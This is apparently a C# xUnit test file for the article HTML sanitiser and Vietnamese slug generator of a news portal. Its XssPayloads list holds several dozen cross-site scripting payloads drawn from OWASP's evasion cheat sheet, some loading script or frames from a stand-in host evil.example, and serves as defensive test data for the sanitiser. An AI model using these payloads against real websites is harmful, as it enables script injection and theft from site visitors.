using Chibo.Features.News;

namespace Chibo.Tests.Features.Portal;

/// <summary>Known cross-site scripting payloads (OWASP's filter evasion cheat sheet and friends) and what must never survive them.</summary>
public static class XssPayloads
{
    public static readonly string[] All =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<a href=\"javascript:alert(1)\">bấm</a>",
        "<a href=\"  javascript:alert(1)\">bấm</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">bấm</a>",
        "<a href=\"vbscript:msgbox(1)\">bấm</a>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example\"><input name=p></form>",
        "<p style=\"background:url(javascript:alert(1))\">kiểu</p>",
        "<div style=\"width: expression(alert(1))\">kiểu</div>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<base href=\"https://evil.example/\">",
        "<details open ontoggle=alert(1)>",
        "<p onmouseover=\"alert(1)\">di chuột</p>",
        "<a href=\"#\" onclick=\"alert(1)\">bấm</a>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<img src=\"x\" alt=\"\" onerror=\"alert(1)\"/>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<input autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "\"><script>alert(1)</script>",
    ];

    private static readonly HashSet<string> Kept = new(StringComparer.OrdinalIgnoreCase)
    {
        "html", "head", "body", "p", "br", "h2", "h3", "h4", "ul", "ol", "li", "a", "strong", "b", "em", "i", "u", "blockquote",
        "figure", "figcaption", "img", "table", "thead", "tbody", "tr", "th", "td",
    };

    /// <summary>
    /// Parses <paramref name="html"/> as a browser would and checks every element: only the kept tags, no event
    /// handler or style attribute, no URL with a scheme that runs or embeds. Text that merely reads like a
    /// payload (escaped, so shown as letters) is harmless and passes.
    /// </summary>
    public static void AssertHarmless(string html)
    {
        var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument($"<!DOCTYPE html><html><head></head><body>{html}</body></html>");
        foreach (var element in document.All)
        {
            Assert.True(Kept.Contains(element.LocalName), $"<{element.LocalName}> survived in: {html}");
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{attribute.Name} survived in: {html}");
                Assert.NotEqual("style", attribute.Name, StringComparer.OrdinalIgnoreCase);
                Assert.NotEqual("srcdoc", attribute.Name, StringComparer.OrdinalIgnoreCase);
                if (attribute.Name is "href" or "src" or "action" or "formaction")
                {
                    var url = new string([.. attribute.Value.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c))]).ToLowerInvariant();
                    Assert.False(url.StartsWith("javascript:", StringComparison.Ordinal) || url.StartsWith("vbscript:", StringComparison.Ordinal) || url.StartsWith("data:", StringComparison.Ordinal),
                        $"{attribute.Name}={attribute.Value} survived in: {html}");
                }
            }
        }
    }
}

/// <summary>The sanitiser and the addresses on their own.</summary>
public sealed class ArticleHtmlTests
{
    public static TheoryData<string> Payloads() => [.. XssPayloads.All];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Sanitize_LeavesNothingThatRuns(string payload) => XssPayloads.AssertHarmless(ArticleHtml.Sanitize(payload));

    [Theory]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<a href=\" java\tscript:alert(1)\">a</a>")]
    [InlineData("<p style=\"color:red\">a</p>")]
    [InlineData("<iframe></iframe>")]
    public void TheHarmlessCheck_CatchesWhatTheSanitiserRemoves(string raw) =>
        Assert.ThrowsAny<Xunit.Sdk.XunitException>(() => XssPayloads.AssertHarmless(raw));

    [Fact]
    public void Sanitize_KeepsHeadingsListsLinksAndImages()
    {
        var html = ArticleHtml.Sanitize("<h2>Mục</h2><ol><li>một</li></ol><a href=\"https://example.org\">a</a><img src=\"/tin-tuc/anh/1\" alt=\"ảnh\">");
        Assert.Contains("<h2>Mục</h2>", html);
        Assert.Contains("<ol><li>một</li></ol>", html);
        Assert.Contains("href=\"https://example.org\"", html);
        Assert.Contains("rel=\"nofollow noopener noreferrer\"", html);
        Assert.Contains("<img src=\"/tin-tuc/anh/1\" alt=\"ảnh\">", html);
    }

    [Theory]
    [InlineData("Chi bộ Trường Cao đẳng Y Hà Nội tổ chức buổi sinh hoạt chuyên đề “Xây dựng nguồn”", "chi-bo-truong-cao-dang-y-ha-noi-to-chuc-buoi-sinh-hoat-chuyen-de-xay-dung-nguon")]
    [InlineData("ĐẢNG ỦY — Đoàn, Hội: 2024!", "dang-uy-doan-hoi-2024")]
    [InlineData("“…”", "tin")]
    public void Slugs_TransliterateVietnamese(string title, string slug) => Assert.Equal(slug, Slugs.From(title));

    [Fact]
    public void Slugs_StopAtAWordBoundary()
    {
        var slug = Slugs.From(string.Join(" ", Enumerable.Repeat("phát triển đảng viên", 20)));
        Assert.True(slug.Length <= Slugs.MaxLength);
        Assert.StartsWith(slug + "-", string.Join("-", Enumerable.Repeat("phat-trien-dang-vien", 20)), StringComparison.Ordinal);
    }
}
